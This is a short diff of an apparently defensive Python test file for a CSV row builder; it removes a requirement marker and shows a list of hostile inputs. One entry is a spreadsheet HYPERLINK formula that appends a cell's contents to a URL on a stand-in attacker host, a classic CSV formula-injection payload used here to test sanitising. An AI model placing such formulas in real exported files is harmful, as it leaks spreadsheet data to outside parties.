@@ -10,7 +10,6 @@ from hypothesis import strategies as st
 
 from standby.domain.csv_rows import csv_row
 
-pytestmark = pytest.mark.req("OPS-13")
 HOSTILE = [
     '=HYPERLINK("https://evil.test?"&A1,"x")',
     "+1-281-555-0100",
